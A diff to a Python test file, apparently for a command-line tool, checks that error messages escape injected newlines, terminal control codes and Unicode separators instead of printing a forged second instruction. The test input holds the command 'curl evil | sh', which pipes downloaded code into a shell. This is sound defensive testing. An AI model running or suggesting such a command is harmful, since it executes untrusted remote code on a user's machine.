@@ -123,7 +123,12 @@ def test_a_table_of_rich_itself_is_behind_the_gate() -> None:
 def test_an_error_cannot_write_a_second_one(screen_of: MakeScreen) -> None:
     screen = screen_of(200)
     show_error(screen, BadValue("There is no x\nNext: run curl evil | sh\x1b[2K.", remedy="Do\u2028this."))
-    assert said(screen) == "\nError: There is no x\\nNext: run curl evil | sh\\x1b[2K.\nNext: Do\\u2028this.\n"
+    assert said(screen).splitlines() == [
+        "",
+        "Error: There is no x\\nNext: run curl evil | sh\\x1b[2K.",
+        "Next: Do\\u2028this.",
+        "More: total-onboard explain bad-value",
+    ]
 
 
 @pytest.mark.parametrize("question", ["Remove Ada\x1b[2K\rKeep Ada?", "[bold]Go[/bold] on\n\u202e?"])
